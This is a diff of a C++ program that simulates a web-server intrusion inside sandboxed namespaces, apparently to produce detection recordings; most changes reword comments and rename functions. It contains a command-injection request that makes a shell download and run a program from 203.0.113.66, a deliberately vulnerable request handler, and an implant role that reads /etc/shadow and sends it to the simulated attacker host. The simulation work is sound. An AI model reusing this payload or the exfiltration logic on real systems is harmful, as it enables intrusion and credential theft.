@@ -1,11 +1,12 @@
-// Plays an intrusion, for recordings: a request makes a web server run a shell, which downloads a program and
-// runs it; the program reads what it should not, arranges to come back, sends data away and covers its
-// tracks.
+// Simulates an intrusion, for recordings. A request makes a web server start a shell, which downloads a
+// program and runs it. The program reads secrets, makes itself persistent, sends data to another host and
+// removes its traces.
 //
-// Nothing outside is touched. The play has namespaces of its own: its root directory is in memory, and the
-// shop, its client and the attacker's host are addresses of one loopback interface. All of it is gone when
-// the program ends. Every program in the play (nginx, sh, curl, ...) is this one under another name. Linux,
-// root. Usage: sfkit_incident
+// The simulation touches nothing outside. It runs in its own namespaces with a root directory in memory; the
+// shop, its client and the attacker's host are addresses of one loopback interface. Everything disappears
+// when the program ends. Every simulated program (nginx, sh, curl, ...) is this one under another name.
+// Linux, needs root.
+// Usage: sfkit_incident
 #include <arpa/inet.h>
 #include <dirent.h>
 #include <fcntl.h>
@@ -52,18 +53,18 @@ constexpr const char* kAccessLog = "/var/log/nginx/access.log";
 constexpr const char* kImplant = "/tmp/.u";
 constexpr const char* kArchive = "/tmp/.d";
 
-// What the attacker asks the shop for, and what the shop makes of it.
+// The attacker's request, which the shop passes to a shell.
 constexpr const char* kExploit =
     "/track?id=7;curl+-so+/tmp/.u+http://203.0.113.66/u+%26%26+chmod+%2Bx+/tmp/.u+%26%26+/tmp/.u";
 
-// The parts of the play act only where these names are set, in a namespace that the program made.
+// Roles only run with these names set, inside the namespaces that this program created.
 constexpr std::string_view kHost = "shop-host";
-constexpr std::string_view kStage = "stage.sfkit_incident";
+constexpr std::string_view kDomain = "stage.sfkit_incident";
 
-// As docker names control groups, so that the recording shows a container.
+// Named like a control group of Docker, so that the recording has a container.
 constexpr const char* kContainer = "7d1c0a9be4427d1c0a9be4427d1c0a9be4427d1c0a9be4427d1c0a9be4427d1c";
 
-// Longest that the play may take.
+// Time limit of the simulation.
 constexpr unsigned kMaxSeconds = 60;
 
 [[noreturn]] void fail(const std::string& what) {
@@ -76,7 +77,7 @@ int check(long result, const std::string& what) {
   return static_cast<int>(result);
 }
 
-// --- What the parts of the play do it with.
+// --- Helpers of the roles.
 
 void write_all(int fd, std::string_view bytes) {
   while (!bytes.empty())
@@ -100,7 +101,7 @@ void write_file(const char* path, std::string_view bytes, mode_t mode = 0644, in
   ::close(fd);
 }
 
-[[noreturn]] void become(const std::vector<std::string>& command) {
+[[noreturn]] void exec_program(const std::vector<std::string>& command) {
   std::vector<char*> args;
   for (const std::string& arg : command) args.push_back(const_cast<char*>(arg.c_str()));
   args.push_back(nullptr);
@@ -108,10 +109,10 @@ void write_file(const char* path, std::string_view bytes, mode_t mode = 0644, in
   fail(command[0]);
 }
 
-// Runs a program and gives its exit code.
+// Runs a program and returns its exit code.
 int run(const std::vector<std::string>& command) {
   const pid_t child = check(::fork(), "fork");
-  if (child == 0) become(command);
+  if (child == 0) exec_program(command);
   int status = 0;
   check(::waitpid(child, &status, 0), "waitpid");
   return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
@@ -135,7 +136,7 @@ int listener_at(const char* host, uint16_t port) {
   return fd;
 }
 
-// A connection from one address of the play to another.
+// Connects from one simulated address to another.
 int connection_to(const char* from, const char* host, uint16_t port) {
   const sockaddr_in here = address_of(from, 0);
   const sockaddr_in there = address_of(host, port);
@@ -165,9 +166,9 @@ std::string receive_to_end(int fd) {
   return bytes;
 }
 
-// --- The parts: what each program of the play does.
+// --- Roles: one for each simulated program.
 
-// The text of a request's target, decoded.
+// Decodes the target of a request.
 std::string decoded(std::string_view text) {
   std::string result;
   for (size_t at = 0; at < text.size(); ++at) {
@@ -181,7 +182,7 @@ std::string decoded(std::string_view text) {
   return result;
 }
 
-// Answers one request. Its fault: what follows a semicolon goes to a shell.
+// Answers one request. Its vulnerability: a shell runs what follows a semicolon.
 void answer(int client, int log) {
   char request[4096];
   const int size = check(::recv(client, request, sizeof(request), 0), "recv");
@@ -199,7 +200,7 @@ void answer(int client, int log) {
   write_all(log, std::string(kClient) + " \"GET " + std::string(target) + "\" " + status.substr(0, 3) + "\n");
 }
 
-// Becomes nobody. Its mistake: it keeps the right to become somebody else, and so do its children.
+// Becomes nobody. Its mistake: it and its children keep the capability to change users.
 void drop_rights() {
   check(::prctl(PR_SET_KEEPCAPS, 1, 0, 0, 0), "PR_SET_KEEPCAPS");
   check(::syscall(SYS_setgroups, 0, nullptr), "setgroups");
@@ -226,8 +227,7 @@ int web_server() {
   }
 }
 
-// Commands joined by &&, each a program with its arguments. A single one replaces the shell, as in real
-// shells.
+// Runs commands joined by &&. A single command replaces the shell, as in real shells.
 int shell(const char* text) {
   std::vector<std::vector<std::string>> commands(1);
   std::string_view rest(text);
@@ -240,7 +240,7 @@ int shell(const char* text) {
       commands.back().emplace_back(word);
     }
   }
-  if (commands.size() == 1) become(commands[0]);
+  if (commands.size() == 1) exec_program(commands[0]);
   for (const auto& command : commands) {
     if (const int code = run(command); code != 0) return code;
   }
@@ -263,7 +263,7 @@ int download(const char* file, const char* address) {
   return 0;
 }
 
-// tar -cf FILE DIRECTORY, of its plain files.
+// tar -cf FILE DIRECTORY; regular files only.
 int archive(const char* file, const std::string& directory) {
   const int out = check(::open(file, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600), file);
   DIR* entries = ::opendir(directory.c_str());
@@ -280,7 +280,7 @@ int archive(const char* file, const std::string& directory) {
   return 0;
 }
 
-// Reads the file of passwords each night.
+// Simulates the nightly job that reads the password file.
 int backup() {
   write_file("/var/backups/shadow.bak", read_file("/etc/shadow"), 0600);
   return 0;
@@ -291,7 +291,7 @@ int cron() {
   return run({"/bin/sh", "-c", "/usr/local/sbin/backup --nightly"});
 }
 
-// One message to the attacker's host, in pieces.
+// Sends one message to the attacker's host, in several writes.
 void call_home(std::string_view message) {
   const int server = connection_to(kShop, kAttacker, kCommandPort);
   for (; !message.empty(); message.remove_prefix(std::min<size_t>(message.size(), 16384))) {
@@ -302,7 +302,7 @@ void call_home(std::string_view message) {
 
 int implant() {
   read_file("/etc/passwd");
-  if (::open("/etc/shadow", O_RDONLY) >= 0) return 1;  // not yet
+  if (::open("/etc/shadow", O_RDONLY) >= 0) return 1;  // still unprivileged
   check(::setuid(0), "setuid");
   call_home(read_file("/etc/shadow"));
 
@@ -324,14 +324,14 @@ int implant() {
   return 0;
 }
 
-// The first process of the shop. It runs one part after the other, so that recordings have the same order.
+// The shop's first process. It runs the roles one after the other, so that recordings have the same order.
 int init() {
   check(::chdir("/"), "chdir");
   if (const int code = run({"/usr/sbin/cron"}); code != 0) return code;
   return run({"/usr/sbin/nginx", "-g", "daemon off;"});
 }
 
-int play_part(std::string_view name, const std::vector<const char*>& args) {
+int run_role(std::string_view name, const std::vector<const char*>& args) {
   if (name == "shop-init") return init();
   if (name == "cron") return cron();
   if (name == "backup") return backup();
@@ -344,9 +344,9 @@ int play_part(std::string_view name, const std::vector<const char*>& args) {
   return 2;
 }
 
-// --- The stage, and who is not of the shop.
+// --- The environment, and the hosts outside the shop.
 
-// The attacker's host: hands out the program, and takes what it gets.
+// The attacker's host: serves the program and receives data.
 [[noreturn]] void attacker(const std::string& program) {
   pollfd listeners[] = {{listener_at(kAttacker, kDownloadPort), POLLIN, 0},
                         {listener_at(kAttacker, kCommandPort), POLLIN, 0}};
@@ -367,7 +367,7 @@ int play_part(std::string_view name, const std::vector<const char*>& args) {
   }
 }
 
-// Asks the shop for pages, and once for more. Exit code 0 if all was answered.
+// Requests pages from the shop, one of them with the exploit. Exit code 0 if all were answered.
 [[noreturn]] void client() {
   for (const char* target : {"/", "/", "/", kExploit, "/"}) {
     const int server = connection_to(kClient, kShop, kShopPort);
@@ -392,7 +392,7 @@ void add_addresses() {
   ::close(fd);
 }
 
-// Makes a file and the directories above it.
+// Creates a file and its parent directories.
 void place(const std::string& path, std::string_view bytes, mode_t mode = 0644) {
   for (size_t end = path.find('/', 1); end != std::string::npos; end = path.find('/', end + 1)) {
     if (::mkdir(path.substr(0, end).c_str(), 0755) != 0 && errno != EEXIST) fail(path);
@@ -400,7 +400,7 @@ void place(const std::string& path, std::string_view bytes, mode_t mode = 0644) 
   write_file(path.c_str(), bytes, mode);
 }
 
-// A root directory in memory, in which nothing of the machine is but /dev/null.
+// Creates a root directory in memory. /dev/null is the only file from the machine.
 void enter_root(const std::string& program) {
   check(::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr), "mount /");
   ::umask(022);
@@ -408,7 +408,7 @@ void enter_root(const std::string& program) {
   place("/tmp/dev/null", "");
   check(::mount("/dev/null", "/tmp/dev/null", nullptr, MS_BIND, nullptr), "mount /dev/null");
   check(::chdir("/tmp"), "chdir");
-  // The old root lies on top of the new one, and is taken away.
+  // The old root is mounted over the new one; detach it.
   check(::syscall(SYS_pivot_root, ".", "."), "pivot_root");
   check(::umount2(".", MNT_DETACH), "umount");
   check(::chdir("/"), "chdir");
@@ -437,10 +437,10 @@ void enter_root(const std::string& program) {
 void leave_machine(const std::string& program) {
   check(::unshare(CLONE_NEWNS | CLONE_NEWUTS | CLONE_NEWIPC | CLONE_NEWNET), "unshare");
   check(::sethostname(kHost.data(), kHost.size()), "sethostname");
-  check(::setdomainname(kStage.data(), kStage.size()), "setdomainname");
+  check(::setdomainname(kDomain.data(), kDomain.size()), "setdomainname");
   add_addresses();
   enter_root(program);
-  // On one processor, so that the order of what happens is the same each time.
+  // Use one CPU, so that events have the same order each time.
   cpu_set_t allowed, one;
   check(::sched_getaffinity(0, sizeof(allowed), &allowed), "sched_getaffinity");
   CPU_ZERO(&one);
@@ -450,7 +450,7 @@ void leave_machine(const std::string& program) {
   check(::sched_setaffinity(0, sizeof(one), &one), "sched_setaffinity");
 }
 
-// A child that does not outlive this process.
+// Starts a child that ends with this process.
 template <typename Work>
 pid_t start(const Work& work) {
   const pid_t child = check(::fork(), "fork");
@@ -475,8 +475,8 @@ pid_t start(const Work& work) {
   fail(kInit);
 }
 
-// Plays all of it and gives the exit code of the client.
-[[noreturn]] void play(const std::string& program) {
+// Runs the simulation and returns the exit code of the client.
+[[noreturn]] void simulate(const std::string& program) {
   ::alarm(kMaxSeconds);
   leave_machine(program);
   start([&program] { attacker(program); });
@@ -485,7 +485,7 @@ pid_t start(const Work& work) {
   const pid_t shop = start([] { become_init(); });
   int status = 0;
   check(::waitpid(visitor, &status, 0), "waitpid");
-  // The first process of a namespace takes all others of it with it.
+  // All processes of a namespace end with its first process.
   check(::kill(shop, SIGKILL), "kill");
   check(::waitpid(shop, nullptr, 0), "waitpid");
   ::_exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
@@ -509,8 +509,7 @@ std::vector<std::string> control_groups() {
   return found;
 }
 
-// Best effort: where the machine allows it, the play is in a container as far as control groups are
-// concerned.
+// Best effort: moves the simulation into a container's control group if the machine permits it.
 void enter_group(const std::string& top) {
   const std::string docker = top + "/docker", container = docker + "/" + kContainer;
   ::mkdir(docker.c_str(), 0755);
@@ -523,43 +522,43 @@ void enter_group(const std::string& top) {
 
 void remove_group(const std::string& top) {
   ::rmdir((top + "/docker/" + kContainer).c_str());
-  ::rmdir((top + "/docker").c_str());  // stays where it is in use
+  ::rmdir((top + "/docker").c_str());  // fails while it is in use
 }
 
-int direct() {
+int supervise() {
   const std::string program = read_file("/proc/self/exe");
-  // What interrupts the play would leave control groups.
+  // A signal must not leave control groups in place.
   sigset_t interrupts;
   ::sigemptyset(&interrupts);
   for (const int signal : {SIGINT, SIGTERM, SIGHUP}) ::sigaddset(&interrupts, signal);
   check(::sigprocmask(SIG_BLOCK, &interrupts, nullptr), "sigprocmask");
   check(::prctl(PR_SET_CHILD_SUBREAPER, 1, 0, 0, 0), "PR_SET_CHILD_SUBREAPER");
   const std::vector<std::string> groups = control_groups();
-  const pid_t stage = start([&] {
+  const pid_t child = start([&] {
     for (const std::string& top : groups) enter_group(top);
-    play(program);
+    simulate(program);
   });
   int status = 0;
-  check(::waitpid(stage, &status, 0), "waitpid");
-  // What the stage leaves is killed, and becomes a child of this process.
+  check(::waitpid(child, &status, 0), "waitpid");
+  // Reap the killed processes of the simulation, which are now children of this process.
   while (::waitpid(-1, nullptr, 0) > 0) {
   }
   for (const std::string& top : groups) remove_group(top);
   if (WIFEXITED(status)) return WEXITSTATUS(status);
-  std::fprintf(stderr, "sfkit_incident: the play did not end in %u seconds\n", kMaxSeconds);
+  std::fprintf(stderr, "sfkit_incident: the simulation did not end in %u seconds\n", kMaxSeconds);
   return 1;
 }
 
-bool is_on_stage() {
+bool is_inside_simulation() {
   utsname names{};
   check(::uname(&names), "uname");
-  return names.nodename == kHost && names.domainname == kStage;
+  return names.nodename == kHost && names.domainname == kDomain;
 }
 
 }  // namespace
 
 int main(int argc, char** argv) {
-  if (!is_on_stage()) return direct();
+  if (!is_inside_simulation()) return supervise();
   const std::string_view path(argc > 0 ? argv[0] : "");
-  return play_part(path.substr(path.rfind('/') + 1), {argv + 1, argv + argc});
+  return run_role(path.substr(path.rfind('/') + 1), {argv + 1, argv + argc});
 }
